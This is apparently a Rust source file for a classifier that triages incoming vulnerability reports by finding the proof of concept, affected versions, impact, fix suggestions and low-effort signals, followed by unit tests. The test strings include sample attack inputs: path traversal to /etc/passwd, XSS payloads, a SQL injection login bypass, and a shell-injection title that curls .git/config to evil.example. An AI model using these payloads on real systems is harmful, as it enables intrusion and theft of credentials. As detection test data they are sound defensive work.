//! Classify: read a report the way a careful triager does. Pure functions, no I/O.
//!
//! Input is the report's text (all decrypted text parts, and follow-ups) and
//! its attachments; output is [`Findings`]: proof of concept, affected
//! versions, impact and severity (CVSS vectors are validated and scored with
//! the `cvss` crate), reproduction steps, fix suggestions, CVE/CWE/GHSA ids,
//! credit, and low-effort signals. Every finding carries the evidence that
//! justified it: the text span, where it was found, and the rule that fired.
//!
//! The rules are general patterns (markdown sections, code blocks, request
//! lines, payload shapes, version phrases), not sentences of any corpus.
//!
//! One file per finding: `sections` (headings), `poc`, `versions` (the version
//! grammar), `impact` (classes, severity, CVSS), `steps`, `fix`, `ids` (CVE/CWE/GHSA
//! ids and credit), `low_effort`. [`classify`] only builds the located texts and calls each in turn;
//! low effort is judged last, from the other findings.

use std::collections::BTreeSet;
use std::str::FromStr;
use std::sync::LazyLock;

use regex::Regex;

/// An attachment as the classifier sees it.
#[derive(Debug, Clone)]
pub struct AttachmentIn<'a> {
    pub name: Option<&'a str>,
    pub content_type: &'a str,
    pub data: &'a [u8],
}

/// What the classifier reads.
#[derive(Debug, Clone, Default)]
pub struct Input<'a> {
    pub subject: &'a str,
    pub text: &'a str,
    pub attachments: Vec<AttachmentIn<'a>>,
}

pub use crate::domain::findings::*;
use crate::domain::status::{PocStatus, Severity, SeveritySource};

/// Most matches of one rule taken from one text. A 20 MiB log pasted into a report
/// would otherwise make hundreds of thousands of evidence spans (measured: ~90 MiB for
/// one 18 MiB message, BENCHMARKS.md); the first ones are the evidence that matters.
const MAX_MATCHES: usize = 32;

fn re(s: &str) -> Regex {
    crate::domain::builtin_regex(s)
}

/// [`re`] for phrases that a hard-wrapped mail may break across lines ("allows remote
/// code\nexecution", "the elevated\nprivileges"): every literal space outside a
/// character class matches any run of ASCII whitespace, line breaks included (a
/// literal space never matched a no-break space either, and the small class keeps the
/// lazy DFA's states few). A space with a quantifier (`fix ?`) keeps it
/// (`(?:[ \t\r\n]+)?`).
fn re_wrapped(s: &str) -> Regex {
    re(&wrap_spaces(s))
}

fn wrap_spaces(s: &str) -> String {
    crate::domain::rewrite_outside_classes(s, |token, next| {
        (token == " ").then(|| {
            if matches!(next, Some('?' | '*' | '+' | '{')) {
                r"(?:[ \t\r\n]+)".to_string()
            } else {
                r"[ \t\r\n]+".to_string()
            }
        })
    })
}

/// Evidence for `start..end` of a document. Offsets computed by rules (a section cut
/// at 200 bytes, say) may fall inside a character or past the end: they are moved to
/// the enclosing character boundaries, so a span can always be sliced (fuzzing found this).
fn evidence(doc: &Doc<'_>, start: usize, end: usize, rule: &str) -> Evidence {
    let end = doc.text.ceil_char_boundary(end.min(doc.text.len()));
    let start = doc.text.floor_char_boundary(start.min(end));
    let raw = doc.text.get(start..end).unwrap_or_default();
    let t = raw.trim();
    // The span is the text shown: leading and trailing whitespace are not part of it.
    let start = start + (raw.len() - raw.trim_start().len());
    let end = (end - (raw.len() - raw.trim_end().len())).max(start);
    let text = if t.chars().count() > 200 {
        let mut s: String = t.chars().take(199).collect();
        s.push('…');
        s
    } else {
        t.to_string()
    };
    Evidence {
        text,
        location: doc.location.clone(),
        start,
        end,
        rule: rule.into(),
    }
}

mod document;
mod fix;
mod ids;
mod impact;
mod low_effort;
mod poc;
mod sections;
mod steps;
mod versions;

pub use impact::grade_distance;
pub use impact::score_cvss;
pub use versions::normalize_version_text;

use document::*;
use fix::*;
use ids::*;
use impact::*;
use low_effort::*;
use poc::*;
use sections::*;
use steps::*;
use versions::*;

/// Classifies one report.
pub fn classify(input: &Input<'_>) -> Findings {
    // Quoted earlier mail (our own ack among it) and the signature are not the report.
    let masked = sections::mask_quotes_and_signature(input.text);
    // Comment markers in front of prose ("# Version: 1.0") are not Markdown headings.
    let body = sections::unprefix_comment_runs(&masked);
    let docs = documents(input, &body);

    let all_text: String = docs.iter().map(|d| d.text).collect::<Vec<_>>().join("\n");
    let poc = find_poc(&docs, input);
    let items = extract_versions(&docs);
    // "Tested on the master branch", "the latest release": kept (the policy reads the
    // current release as supported), but they name no version the team can check, so
    // alone they do not answer "which versions are affected?".
    let versions = Versions {
        present: items
            .iter()
            .any(|i| i.normalized.as_deref() != Some("latest")),
        items,
    };
    let impact = find_impact(&docs, &all_text);
    let repro_steps = find_repro_steps(&docs, &poc);
    let fix_suggestion = find_fix(&docs, input);
    let (cve, cwe, ghsa) = find_ids(&docs);
    let mut findings = Findings {
        poc,
        versions,
        impact,
        repro_steps,
        fix_suggestion,
        cve_ids: cve.into_iter().collect(),
        cwe_ids: cwe.into_iter().collect(),
        ghsa_ids: ghsa.into_iter().collect(),
        credit: find_credit(&docs),
        low_effort: LowEffort::default(),
    };
    findings.low_effort = find_low_effort(&docs, input, &findings, &all_text);
    findings
}

#[cfg(test)]
mod tests {
    use super::*;

    fn run(text: &str) -> Findings {
        classify(&Input {
            subject: "",
            text,
            attachments: vec![],
        })
    }

    #[test]
    fn poc_shapes() {
        assert_eq!(
            run("Run:\n\n```sh\ncurl -X POST http://localhost/api\n```\n")
                .poc
                .status,
            "present"
        );
        assert_eq!(
            run("GET /static/..%2f..%2fetc/passwd HTTP/1.1\nHost: x")
                .poc
                .status,
            "present"
        );
        assert_eq!(
            run("Post a comment with <img src=x onerror=alert(1)> to see it.")
                .poc
                .status,
            "present"
        );
        assert_eq!(
            run("I have a working exploit, tell me the bounty first.")
                .poc
                .status,
            "claimed"
        );
        assert_eq!(
            run("The PoC is to be disclosed on or after the 5th.")
                .poc
                .status,
            "claimed"
        );
        assert_eq!(
            run("The login form is vulnerable to XSS.").poc.status,
            "absent"
        );
        let f = classify(&Input {
            subject: "x",
            text: "see attached",
            attachments: vec![AttachmentIn {
                name: Some("exploit.sh"),
                content_type: "text/x-shellscript",
                data: b"#!/bin/sh\n",
            }],
        });
        assert_eq!(f.poc.status, "present");
        assert_eq!(f.poc.evidence[0].rule, "script-attachment");
    }

    fn norms(text: &str) -> Vec<String> {
        run(text)
            .versions
            .items
            .iter()
            .filter_map(|i| i.normalized.clone())
            .collect()
    }

    /// The qualifiers as advisories and reporters write them in other languages (the
    /// Japanese and Chinese lines as JVN iPedia and Chinese release notes write them):
    /// "and earlier" is `<=`, "before" is `<`, "and later" is `>=`; a bare count
    /// ("8文字以上", "3个以上") is not a version.
    #[test]
    fn version_qualifiers_in_other_languages() {
        for (text, want) in [
            ("影響を受ける製品: Mercurial 4.5 およびそれ以前", "<= 4.5"),
            ("CarLife 6.7.2及之前版本 → 可以成功连接", "<= 6.7.2"),
            ("受影响版本：acme 3.2.0 及更早版本", "<= 3.2.0"),
            ("영향 받는 버전: Apache Struts 2.5.30 이하", "<= 2.5.30"),
            (
                "Betroffen sind alle Versionen bis einschließlich 2.4.1.",
                "<= 2.4.1",
            ),
            ("Versions affectées : 2.4.1 et antérieures", "<= 2.4.1"),
            ("Versiones afectadas: hasta la 2.4.1", "<= 2.4.1"),
            ("Versões afetadas: 2.4.1 e anteriores", "<= 2.4.1"),
            ("Уязвимы версии 2.4.1 и ниже", "<= 2.4.1"),
            ("影響バージョン: 3.1.0 より前", "< 3.1.0"),
            ("受影响版本：2.4.1 之前", "< 2.4.1"),
            ("Versions antérieures à 2.4.2", "< 2.4.2"),
            ("Уязвимость в версиях до 2.4.2", "< 2.4.2"),
            ("受影响版本：2.0.0 及之后版本", ">= 2.0.0"),
            ("Versions concernées : à partir de 2.0.1", ">= 2.0.1"),
        ] {
            assert_eq!(norms(text), [want], "{text}");
        }
        assert_eq!(
            norms("影響を受けるバージョン: 1.2.0 以降 1.4.3 以前"),
            ["<= 1.4.3", ">= 1.2.0"]
        );
        for quantity in ["パスワードは8文字以上", "需要3个以上的请求", "vor 3 Tagen"]
        {
            assert!(norms(quantity).is_empty(), "{quantity}");
        }
    }

    #[test]
    fn version_grammar_reads_what_advisories_write() {
        assert_eq!(
            norms("### Patches\n\nFixed in `protocol-http1` v0.15.1+.\n"),
            ["< 0.15.1"]
        );
        assert_eq!(
            norms(
                "It is recommended that all instances are upgraded at least to Nextcloud 12.0.3."
            ),
            ["< 12.0.3"]
        );
        assert_eq!(norms("Fixed versions: 0.3.3+8.13.9"), ["< 0.3.3+8.13.9"]);
        assert_eq!(
            norms("Fixed Versions:     5.0.0.beta1.1, 4.2.5.1, 4.1.14.1\n"),
            ["< 5.0.0.beta1.1", "< 4.2.5.1", "< 4.1.14.1"]
        );
        // A link target is not a statement; the link text is.
        assert_eq!(
            norms("Version [0.2.0](https://rubygems.org/gems/x/versions/0.1.9) of the gem leaks."),
            ["= 0.2.0"]
        );
        // Scope: a version the reporter did not test is not the reported version.
        assert_eq!(
            norms("Reproduced on acme 2.4.1. I have not tested 2.3.9 yet."),
            ["= 2.4.1"]
        );
        // A product named in prose with its version; an address is not a version.
        assert_eq!(
            norms("The webpki 0.22.1 release included a partial fix."),
            ["= 0.22.1"]
        );
        assert!(norms("The server at 10.0.0.1 answers.").is_empty());
        // The full commit, once.
        assert_eq!(
            norms("introduced in commit 2ddd69876a1e1119059debc59fe869cb4e754430"),
            ["commit 2ddd69876a1e1119059debc59fe869cb4e754430"]
        );
    }

    #[test]
    fn code_is_a_poc_only_when_it_exploits() {
        let poc = |t: &str| run(t).poc.status == PocStatus::Present;
        // A monkey patch under a setext "Workarounds" heading is a remedy.
        assert!(!poc(
            "Workarounds\n-----------\nPut this in an initializer:\n\n```\nclass Foo\n  def bar; end\nend\n```\n"
        ));
        // The product's own code, introduced as such.
        assert!(!poc(
            "Vulnerable code will look something like this:\n\n```ruby\nsanitize user_input, tags: %w(em)\n```\n"
        ));
        // Install instructions and manifests.
        assert!(!poc(
            "Upgrade:\n\n```\ncargo install mdbook --version 0.4.5 --force\n```\n"
        ));
        assert!(!poc("```toml\nchrono = { version = \"0.4.22\" }\n```\n"));
        // A PoC section with only a screencast link has nothing to run.
        assert!(!poc(
            "## Proof of Concept\n\nhttps://www.youtube.com/watch?v=k8dp0FJnSsI&ab_channel=someone plus more words here\n"
        ));
        // Attacker input wins over the lead-in; an inline call that triggers the bug counts.
        assert!(poc(
            "The following code shows it:\n\n```\nGET /a?q=<script>alert(1)</script> HTTP/1.1\n```\n"
        ));
        assert!(poc(
            "Passing a long string to `curl_url_set(uh, CURLUPART_URL, \"string\", 0);` triggers the bug."
        ));
        // "Ruby" at the start of a sentence is not a command.
        assert!(!poc(
            "Ruby puppetmaster in Puppet 4.x before 4.4.2 is affected."
        ));
    }

    #[test]
    fn quoted_mail_and_the_signature_are_not_the_report() {
        let t = "Here are the versions: acme 2.1.0.\n\nOn Mon, 1 Dec 2026, security@example.test wrote:\n\
                 > To assess your report we still need:\n\
                 >   - the affected versions (for example \"<= 2.4.1\" or a commit)\n\
                 > curl -X POST http://localhost/api -d x\n\n-- \nRita\nSent from acme 9.9.9 mail\n";
        let f = run(t);
        assert_eq!(norms(t), ["= 2.1.0"], "{:?}", f.versions);
        assert_ne!(f.poc.status, PocStatus::Present, "{:?}", f.poc);
        // Evidence offsets still point into the original text.
        let e = &f.versions.items[0].evidence;
        assert_eq!(t.get(e.start..e.end), Some(e.text.as_str()));
        // Without an attribution line, a Markdown blockquote is the reporter's own text.
        assert!(
            run("> GET /a?q=<script>alert(1)</script> HTTP/1.1\n")
                .poc
                .status
                == PocStatus::Present
        );
    }

    #[test]
    fn fix_statements_as_advisories_and_reporters_write_them() {
        for t in [
            "This flaw was resolved by correcting the sigstack allocation logic.",
            "This is fixed by enforcing a maximum frame size of 256 KiB.",
            "Patched with commit https://example.org/commit/2232473733b7",
            "Fix idea: compare the tokens in constant time.",
            "## Remediation:\nEscape the title before rendering.",
        ] {
            assert!(run(t).fix_suggestion.present, "{t}");
        }
        assert!(
            !run("The title is rendered without escaping.")
                .fix_suggestion
                .present
        );
    }

    #[test]
    fn an_evidence_span_is_exactly_its_text() {
        let t = "Steps to reproduce:\n\n    curl -s -X POST http://localhost/api/login -d \"u=admin' OR '1'='1\"   \n\nAffected: acme <= 2.4.1 \nImpact: an attacker can log in as anyone.\n";
        let f = run(t);
        let all = f
            .poc
            .evidence
            .iter()
            .chain(&f.repro_steps.evidence)
            .chain(&f.impact.evidence)
            .chain(f.versions.items.iter().map(|i| &i.evidence));
        let mut n = 0;
        for e in all.filter(|e| e.location == "body") {
            assert_eq!(t.get(e.start..e.end), Some(e.text.as_str()), "{e:?}");
            n += 1;
        }
        assert!(n >= 4, "{f:?}");
    }

    #[test]
    fn quoted_product_code_and_ci_configuration_are_not_a_proof_of_concept() {
        let poc = |t: &str| run(t).poc.status == PocStatus::Present;
        // A lead-in pointing at the product's source, and indented lines inside the
        // fenced block (not blocks of their own).
        let t = "The daemon asks for the users in load_users <https://git.example.org/acme/-/blob/1.2.0/src/users.c#L88>:\n\n```\nstatic void\nload_users (Acme *self)\n{\n\n        if (call (self->proxy, \"List\") == NULL)\n                self->have_users = FALSE;\n}\n```\n\nImpact: a local user gets admin rights.\n";
        assert!(!poc(t), "{:?}", run(t).poc);
        // A block that opens with a comment naming its source file.
        let t = "Here it goes wrong:\n\n```\n/* lib/str/length.c */\nsize_t length_max(const char *s, size_t max)\n{\n  for (i = 0; i < max; ++i) if (s[i] == 0) break;\n}\n```\n";
        assert!(!poc(t));
        // A first line naming the source file, without a comment marker.
        let t = "The server's choice is trusted:\n\n```\nlib/core/session.c:\n...\nif (s->method == METHOD_FIPS)\n    fips_decrypt(s->ctx, data, len);\n...\n```\n";
        assert!(!poc(t), "{:?}", run(t).poc);
        // A workflow step that uses the event's text; a command inside it is the
        // project's, not the reporter's.
        let t = "The issue body reaches the script:\n\n```\n    - name: Commit\n      run: sh ./build.sh\n      env:\n        BODY: ${{ github.event.issue.body }}\n```\n";
        assert!(!poc(t), "{:?}", run(t).poc);
        // A shell-injection payload closing a quote, in prose.
        let t = "Open a pull request with the title `x\"; curl -d @.git/config http://evil.example #` and the step runs it.";
        assert!(poc(t), "{:?}", run(t).poc);
        // A CI workflow is the project's configuration.
        let t = "The workflow runs the pull request's code with secrets:\n\n```\non: pull_request_target\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: make\n```\n";
        assert!(!poc(t));
        // An exploit in a block still is one.
        let t = "Run this:\n\n```\ncurl -s 'http://localhost:8080/api/export?file=../../../etc/passwd'\n```\n";
        assert!(poc(t));
        // A payload percent-encoded in a link is a payload.
        let t = "The victim opens https://shop.example/account?next=%22%3E%3Cscript%3Ealert(document.domain)%3C%2Fscript%3E while logged in.";
        assert!(poc(t), "{:?}", run(t).poc);
        assert!(!poc(
            "See https://shop.example/search?q=red%20shoes for the page."
        ));
    }

    #[test]
    fn numbered_references_are_not_steps_and_master_is_not_a_version() {
        let t = "The pointer outlives its owner [1][2].\n\n1. https://src.example/acme/+/main:lib/a.cc;l=105\n2. https://src.example/acme/+/main:lib/b.cc;l=124\n";
        assert!(!run(t).repro_steps.present, "{:?}", run(t).repro_steps);
        // "Tested on the master branch": kept as the current release, not a version.
        let f = run("## Tested Version\n\nMaster branch.\n\nImpact: a crash.");
        assert!(!f.versions.present, "{:?}", f.versions);
        assert!(
            f.versions
                .items
                .iter()
                .any(|i| i.normalized.as_deref() == Some("latest"))
        );
        // A version under a "Tested Version" heading, with or without the product name.
        for t in [
            "## Tested Version\n\nAcme FTP 5.3\n",
            "### Affected versions\n\n- 2.10.4\n",
        ] {
            assert!(run(t).versions.present, "{t}");
        }
        // A changeset is a commit.
        let f = run("Tested on the latest changeset 4923b8f of the repository.");
        assert!(f.versions.present, "{:?}", f.versions);
        // "v4 or v5" next to "the most recent version" are versions of their own.
        let f = run(
            "Please upgrade to the most recent version of Acme v4 or v5. There is no patch for v3.",
        );
        assert!(
            f.versions.items.iter().any(|i| i.text.contains("v3")),
            "{:?}",
            f.versions
        );
    }

    #[test]
    fn impact_statements_in_advisory_prose() {
        for t in [
            "Thus an user with read-only access was able to restore old versions.",
            "Improper access control in Social app 0.3.1 allowed to read posts of any user.",
            "pleaser before 0.4 allows a local unprivileged attacker to gain knowledge about files.",
            "The regression caused all output values, including sensitive values, to be printed at info level.",
            "A missing size check in the importer allowed a guest user to replace any shared file.",
            "Building without stack protection on this platform allowed to overwrite return addresses.",
        ] {
            assert!(run(t).impact.present, "{t}");
        }
        assert!(
            !run("This release updates the documentation.")
                .impact
                .present
        );
    }

    #[test]
    fn a_weakness_named_as_the_result_is_not_an_impact_but_its_consequence_is() {
        for t in [
            "The buffer is treated as pinned, but it moves. This may result in a use-after-free.",
            "A length of zero can lead to a too small buffer allocation and a subsequent heap overflow.",
            "Parser state\n\n### Impact\n\nUse-after-free in the renderer.\n",
            "### Impact\n\nThis issue may lead to an out-of-bounds read.\n",
        ] {
            assert!(!run(t).impact.present, "{t}: {:?}", run(t).impact);
        }
        for t in [
            "A crafted header may result in a heap overflow and remote code execution.",
            "This may lead to memory corruption in the daemon.",
            "### Impact\n\nAn attacker can read other users' private files.\n",
            "It can lead to a use-after-free; an attacker can then crash the server.",
        ] {
            assert!(run(t).impact.present, "{t}");
        }
    }

    #[test]
    fn short_specific_advisories_and_reproducible_findings_are_not_low_effort() {
        let f =
            run("rand_core::le::read_u32_into has incorrect checks on the source buffer length.");
        assert!(!f.low_effort.flag, "{:?}", f.low_effort);
        let f = run(
            "Lack of rate limiting on login.\n\nSteps to reproduce:\n1. Open the login page\n2. Send 1000 requests with Burp Intruder\n3. None is blocked\n",
        );
        assert!(!f.low_effort.flag, "{:?}", f.low_effort);
        assert!(
            run("Missing SPF record on your domain. Do you pay a bounty?")
                .low_effort
                .flag
        );
    }

    #[test]
    fn versions_normalised() {
        let n = |s: &str| normalize_version_text(s);
        assert_eq!(n("<= 2.4.1").as_deref(), Some("<= 2.4.1"));
        assert_eq!(n("before 1.8.0").as_deref(), Some("< 1.8.0"));
        assert_eq!(n("2.3.x").as_deref(), Some("2.3.x"));
        assert_eq!(
            n("1.2.0 through 1.4.3").as_deref(),
            Some(">= 1.2.0, <= 1.4.3")
        );
        assert_eq!(n("3.1 and earlier").as_deref(), Some("<= 3.1"));
        assert_eq!(n("affected: v2.0.0-rc1").as_deref(), Some("= 2.0.0-rc1"));
        assert_eq!(n("all versions").as_deref(), Some("*"));
        assert_eq!(n("latest release").as_deref(), Some("latest"));
        assert_eq!(
            n("main at commit 1a2b3c4").as_deref(),
            Some("commit 1a2b3c4")
        );
        assert_eq!(n("up to 0.1.2").as_deref(), Some("<= 0.1.2"));
        assert_eq!(n("since 2.11.1").as_deref(), Some(">= 2.11.1"));
    }

    /// The normalised form of every version item found.
    fn normalized(f: &Findings) -> Vec<String> {
        f.versions
            .items
            .iter()
            .filter_map(|i| i.normalized.clone())
            .collect()
    }

    #[test]
    fn versions_with_product_and_fix_section() {
        let f = run("pgAdmin <= 8.5 is affected.\n\n### Patches\nThe fix ships in 8.6.\n");
        let norm = normalized(&f);
        assert!(norm.contains(&"<= 8.5".to_string()), "{norm:?}");
        assert!(norm.contains(&"< 8.6".to_string()), "{norm:?}");
        assert_eq!(f.versions.items[0].product.as_deref(), Some("pgAdmin"));
        assert!(!run("Please look at this issue.").versions.present);
    }

    #[test]
    fn impact_class_and_severity() {
        let f = run("An unauthenticated attacker can execute arbitrary code on the server (RCE).");
        assert!(f.impact.present);
        assert!(f.impact.class.contains(&"rce".to_string()));
        assert_eq!(f.impact.severity, "critical");
        assert_eq!(f.impact.severity_source, "estimated");
        let f = run("Impact: XSS. CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:N");
        let c = f.impact.cvss.as_ref().unwrap();
        assert_eq!(c.score, 9.1);
        assert_eq!(f.impact.severity, "critical");
        assert_eq!(f.impact.severity_source, "cvss");
        let f = run("CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:N/VC:H/VI:H/VA:H/SC:N/SI:N/SA:N");
        assert_eq!(f.impact.cvss.as_ref().unwrap().version, "4.0");
        assert_eq!(f.impact.severity, "critical");
        let f = run("CVSS:3.1/AV:Q/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:N");
        assert!(f.impact.cvss.is_none());
        assert!(f.impact.cvss_error.is_some());
        // A weakness alone is not an impact statement.
        assert!(
            !run("The parser has a TOCTOU race condition because it does not lock.")
                .impact
                .present
        );
    }

    #[test]
    fn ids_credit_fix_steps() {
        let f = run(
            "See CVE-2024-12345 and cwe-79, GHSA-abcd-efgh-jkmp.\nSteps to reproduce:\n1. open\n2. click\n\nSuggested fix: escape the output.\nPlease credit me as Jane Doe.",
        );
        assert_eq!(f.cve_ids, vec!["CVE-2024-12345"]);
        assert_eq!(f.cwe_ids, vec!["CWE-79"]);
        assert!(f.repro_steps.present);
        assert!(f.fix_suggestion.present);
        assert_eq!(f.credit.as_ref().unwrap().name.as_deref(), Some("Jane Doe"));
        let f = run("I would like to remain anonymous.");
        assert!(f.credit.unwrap().anonymous);
        let f = run("### Patches\nNone.\n### Workarounds\nNone.\n");
        assert!(!f.fix_suggestion.present);
    }

    #[test]
    fn low_effort() {
        let f = run(
            "Your domain is missing a DMARC record and the X-Frame-Options header. What is the bounty amount?",
        );
        assert!(f.low_effort.flag);
        assert!(
            f.low_effort
                .reasons
                .contains(&"scanner-finding".to_string())
        );
        assert!(f.low_effort.reasons.contains(&"beg-bounty".to_string()));
        assert!(run("hello").low_effort.flag);
        let f = run(
            "SQL injection in /login: curl -d \"u=' OR '1'='1\" http://x/login. Is this eligible for a bounty?",
        );
        assert!(!f.low_effort.flag, "{:?}", f.low_effort);
        // Asking whether a reward comes, with nothing to reproduce.
        for ask in [
            "Can I get any rewards for these bugs? I know you have no program.",
            "It would be an honour if my work were appreciated as a reward.",
            "Could we receive a bounty for this finding?",
        ] {
            let f = run(&format!(
                "I found a serious vulnerability in your web server that an attacker could use \
                 to attack your site. {ask}"
            ));
            assert!(f.low_effort.flag, "{ask}: {:?}", f.low_effort);
            assert!(f.low_effort.reasons.contains(&"beg-bounty".to_string()));
        }
    }

    #[test]
    fn a_panic_is_an_impact_when_it_is_the_consequence() {
        for text in [
            "Panic when allocating a table exceeding the host's address space.",
            "phonenumber: panic on parsing a crafted RFC 3966 number.",
            "A crafted header can cause a panic in the decoder.",
        ] {
            let f = run(text);
            assert!(
                f.impact.class.contains(&"dos".into()),
                "{text}: {:?}",
                f.impact
            );
        }
        // The panic that triggers a memory-safety bug is the mechanism, not the result.
        let f = run("through() causes a double free if the map function panics.");
        assert!(!f.impact.class.contains(&"dos".into()), "{:?}", f.impact);
    }

    #[test]
    fn steps_numbered_with_dashes_or_named_otherwise_are_steps() {
        let f = run("Hello.\n\n1- Log in from two browsers.\n2- Change the password in one.\n");
        assert!(f.repro_steps.present, "{:?}", f.repro_steps);
        let f = run("Steps to verify: open the page in a frame and click the button.");
        assert!(f.repro_steps.present, "{:?}", f.repro_steps);
        // A range at the start of a line is not a step.
        let f = run("The window is short.\n1-2 hours later the token expires.\n");
        assert!(!f.repro_steps.present, "{:?}", f.repro_steps);
    }

    fn with_subject(subject: &str, text: &str) -> Findings {
        classify(&Input {
            subject,
            text,
            attachments: vec![],
        })
    }

    #[test]
    fn the_recipients_own_mail_domain_records_are_a_template_whatever_the_proof() {
        // DMARC/SPF of the recipient's domain, with a PHP mail() "proof".
        let body = "Summary: I checked the DMARC records for the acme.io domain and there are none; \
                    the SPF records soft fail.\n\nSteps to Reproduce:\n\n```php\n<?php\n\
                    mail(\"victim@example.net\", \"Reset\", \"click\", \"From: support@acme.io\");\n```\n";
        let f = with_subject("Security issue found", body);
        assert!(f.low_effort.flag, "{:?}", f.low_effort);
        let f = with_subject(
            "Email spoofing",
            "Your current SPF configuration is v=spf1 include:mail.acme.io ~all, so anyone can send as you.\n",
        );
        assert!(f.low_effort.flag, "{:?}", f.low_effort);
        // A program that reads these records is software with a bug in it.
        let f = with_subject(
            "Stack overflow in the SPF record parser",
            "Affected: acme-mta 3.2.1. A TXT record with 300 nested include: mechanisms crashes \
             the SPF evaluator of the MTA.\n\n```sh\npython3 make_record.py > zone.txt && \
             acme-mta --check-spf zone.txt\n```\n",
        );
        assert!(!f.low_effort.flag, "{:?}", f.low_effort);
    }

    #[test]
    fn template_findings_are_low_effort_even_with_their_boilerplate_proof() {
        // A clickjacking template whose "PoC" is the usual iframe page.
        let body = "The server didn't return an X-Frame-Options header.\n\nPOC:\n\n\
                    ```html\n<iframe src=\"https://app.example.net/login\" width=500></iframe>\n```\n";
        let f = with_subject("Clickjacking on login page", body);
        assert!(f.low_effort.flag, "{:?}", f.low_effort);
        assert!(f.low_effort.reasons.contains(&"template-finding".into()));
        // Named on a "Vulnerability Name:" line instead of the subject.
        let f = with_subject(
            "Report regarding a bug on your site",
            &format!("Vulnerability Name: URL redirection through Click-Jacking\n\n{body}"),
        );
        assert!(f.low_effort.flag, "{:?}", f.low_effort);
        // Session not invalidated after a password change, with the usual two-browser steps.
        let f = with_subject(
            "Failure to invalidate session on Password Change",
            "1- Login from two browsers.\n2- Change the password in Chrome.\n3- Firefox is still logged in.\n",
        );
        assert!(f.low_effort.flag, "{:?}", f.low_effort);
        // The same class with a real proof of concept is a report.
        let f = with_subject(
            "Sessions not invalidated after password change allow account takeover",
            "```sh\ncurl -b 'sid=OLD' https://app.example.net/api/me   # still 200 after the change\n```\n",
        );
        assert!(!f.low_effort.flag, "{:?}", f.low_effort);
        // Lack of rate limiting with real steps is a report, not a template.
        let f = with_subject(
            "Lack of Rate Limiting on /api/otp",
            "Steps to reproduce:\n1. Request an OTP.\n2. Send 10,000 guesses to /api/otp/verify; none is refused.\n",
        );
        assert!(!f.low_effort.flag, "{:?}", f.low_effort);
    }

    #[test]
    fn a_pointer_to_an_advisory_elsewhere_is_low_effort_a_link_to_a_write_up_is_not() {
        let f = with_subject(
            "Panic when allocating a large table",
            "This is an entry in the database for the security advisory located at\nhttps://github.com/acme/widget/security/advisories/GHSA-xxxx-yyyy-zzzz\nFor more information see the GitHub-hosted security advisory.",
        );
        assert!(f.low_effort.flag, "{:?}", f.low_effort);
        assert!(f.low_effort.reasons.contains(&"pointer-only".into()));
        let f = with_subject(
            "Stored XSS in the comment editor",
            "The comment editor renders unescaped HTML. For details see https://gist.github.com/researcher/0123abcd (private).",
        );
        assert!(
            !f.low_effort.reasons.contains(&"pointer-only".into()),
            "{:?}",
            f.low_effort
        );
    }

    #[test]
    fn asking_how_to_report_or_a_video_poc_is_low_effort() {
        let f = run(
            "I found a serious vulnerability in your platform. Is there any policy to report vulnerabilities and reward researchers?",
        );
        assert!(f.low_effort.flag, "{:?}", f.low_effort);
        let f = run(
            "Kindly share guidance on how to proceed with submitting the vulnerability I identified.",
        );
        assert!(f.low_effort.flag, "{:?}", f.low_effort);
        let f = with_subject(
            "Host Header Injection in ExampleCMS 2.1.1",
            "A Host Header Injection in ExampleCMS 2.1.1 may allow an attacker to spoof a header.\n\nPoC:\nhttps://www.youtube.com/watch?v=abcdefghijk\n",
        );
        assert!(f.low_effort.flag, "{:?}", f.low_effort);
        assert!(f.low_effort.reasons.contains(&"poc-is-a-link".into()));
        // A real report that asks about the CVE process is not.
        let f = run(
            "parse_header() overflows a 256-byte stack buffer. Is there a process for requesting a CVE?\n\n    curl -H \"Content-Type: AAAA...\" http://localhost:8080/\n",
        );
        assert!(!f.low_effort.flag, "{:?}", f.low_effort);
        assert!(f.low_effort.reasons.is_empty(), "{:?}", f.low_effort);
    }

    #[test]
    fn a_grade_that_opens_a_severity_section_is_the_stated_severity() {
        // The way researchers' advisories give it: no "Severity:" colon, the grade as the
        // section's first word, plain, emphasised or bracketed.
        for (t, want) in [
            (
                "### Severity\nModerate - the attacker needs a local account.\n\n### Details\nRemote code execution in the parser.",
                "medium",
            ),
            (
                "## Severity\n\n**Low**\n\nAn attacker can execute arbitrary code in the build step.",
                "low",
            ),
            ("**Severity**\n[HIGH] - session fixation.\n", "high"),
            (
                "Risk/Severity\n-------------\n*Critical*, unauthenticated.\n",
                "critical",
            ),
            (
                "We rated this issue as low: an attacker can only read the page title.",
                "low",
            ),
            ("The bug was deemed as **high** by the team.", "high"),
        ] {
            let f = run(t);
            assert_eq!(f.impact.severity, want, "{t}");
            assert_eq!(f.impact.severity_source, "stated", "{t}");
        }
        // A Severity section that argues without a grade leaves the estimate.
        let f = run(
            "### Severity\nThe impact depends on the deployment. Attackers can execute arbitrary code.",
        );
        assert_eq!(f.impact.severity_source, "estimated");
    }

    #[test]
    fn fix_suggestions_in_researchers_words_and_fixes_declined() {
        let fixes = [
            "In order to mitigate this vulnerability, sanitize the image path before use.",
            "Potential mitigations include using the safe loader for untrusted input.",
            "The generally accepted mitigation is to flush the buffer on every context switch.",
            "This vulnerability has been remediated by the vendor's patch.",
            "Instead, the server should look at the parsed structure, not the printed text.",
            "The bounds check should probably be something like `if (n > max) return -1;`.",
            "Remediation guidelines:\n1. escape the output",
        ];
        let declined = [
            "The maintainers decided not to fix this and documented the risk instead.",
            "The developers won't fix this behaviour.",
        ];
        assert_fix_suggested(&fixes, &declined);
        // A patch that exposes the bug in a demo application is part of the PoC.
        let poc_patch = "### Proof of Concept\nApply the following change to the demo app, then start it.\n\n```diff\ndiff --git a/app.go b/app.go\n--- a/app.go\n+++ b/app.go\n@@ -1,2 +1,3 @@\n+r.HandleFunc(\"/api/create\", CreateHandler)\n```\n\nThen run `curl -XPUT localhost:8095/api/create?name=../x`.\n";
        assert!(!run(poc_patch).fix_suggestion.present);
        let fix_patch = "### Suggested patch\n\n```diff\ndiff --git a/a.c b/a.c\n@@ -1 +1 @@\n-if (n)\n+if (n && n < max)\n```\n";
        assert!(run(fix_patch).fix_suggestion.present);
    }

    #[test]
    fn quantities_are_not_versions_and_hyphenated_builds_are() {
        for t in [
            "The length can be anything between 0 and 255 and is never checked.",
            "The payload grows up to 255 bytes.",
        ] {
